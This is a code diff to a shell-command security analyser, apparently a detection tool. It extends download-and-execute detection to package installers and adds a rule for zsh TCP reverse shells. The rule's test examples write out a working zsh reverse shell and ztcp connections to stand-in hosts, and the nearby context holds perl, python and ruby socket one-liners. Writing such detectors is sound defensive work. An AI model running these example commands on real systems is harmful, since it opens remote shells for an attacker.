@@ -54,6 +54,8 @@ function readsStdin(cmd: SimpleCommand): boolean {
 }
 const runsCode = (c: SimpleCommand) => isShell(c.name) || isInterpreter(c.name) || c.name === 'source' || c.name === '.' || c.name === 'eval';
 
+const INSTALLERS = new Set(['dpkg', 'rpm', 'installer', 'apk', 'pacman', 'snap']);
+
 export interface DownloadExec { dest?: Destination; evidence: string }
 
 /** Every place the call runs code it has just fetched: `curl|sh`, `bash <(curl)`, `sh -c "$(curl)"`, `curl -o f && ./f`, `exec(urlopen())`. */
@@ -82,7 +84,8 @@ function downloadExecsOf(input: AnalysisInput): DownloadExec[] {
     }
     if (c.dynamic[0] && substituted.length && c.argv[0]!.startsWith('$')) out.push({ dest: urlOf(substituted[0]!), evidence: c.argv[0]! });
     for (const [file, fetch] of saved) {
-      const target = runsCode(c) ? operands(c)[0] : c.argv[0];
+      // a downloaded file run directly, by a shell or interpreter, or installed as a package (`dpkg -i`, `rpm -i`, `installer -pkg`)
+      const target = runsCode(c) ? operands(c)[0] : INSTALLERS.has(c.name) ? operands(c).find((w) => w.includes('.')) : c.argv[0];
       if (target && (target === file || (target.includes('/') && base(target) === base(file)))) { out.push({ dest: urlOf(fetch), evidence: `${fetch.argv.join(' ')} … ${c.argv.join(' ')}` }); saved.delete(file); break; }
     }
     if (isFetcher(c)) { const f = savedFile(c); if (f) saved.set(f, c); }
@@ -451,6 +454,17 @@ export const RULES: readonly Rule[] = [
       return undefined;
     },
     examples: { fire: ["perl -e 'use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"))'", "python3 -c 'import socket;s=socket.socket();s.connect((\"45.33.12.7\",9001))'", "ruby -rsocket -e 'TCPSocket.new(\"45.33.12.7\",443)'"], quiet: ["python3 -c 'import socket; print(socket.gethostname())'", "python3 -c 'import socket;s=socket.socket();s.connect((\"127.0.0.1\",5432))'", "node -e 'console.log(1)'"] },
+  },
+  {
+    id: 'PX-C2-020', name: 'zsh-tcp-shell', score: 90, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
+    message: "Opens a TCP connection from zsh's own socket module", why: 'zsh/net/tcp lets a shell connect out and wire itself to the socket without nc or /dev/tcp: a reverse shell that dodges the usual signatures.',
+    commands: ['ztcp', 'zmodload'],
+    test: (c, i) => {
+      if (c.name === 'zmodload') return c.argv.includes('zsh/net/tcp') && (i.view?.commands ?? []).some((x) => x.name === 'ztcp' && !x.argv.includes('-l')) ? c.argv.join(' ') : undefined;
+      const host = operands(c)[0];
+      return !c.argv.includes('-l') && !c.argv.includes('-c') && host !== undefined && !/^(localhost|127\.)/.test(host) ? c.argv.join(' ') : undefined;
+    },
+    examples: { fire: ["zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.23 7002 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", 'ztcp 45.33.12.7 4444', "zsh -c 'zmodload zsh/net/tcp; ztcp evil.example 443'"], quiet: ['zmodload zsh/complist', 'ztcp -l 8080', 'ztcp localhost 5432'] },
   },
 ];
 
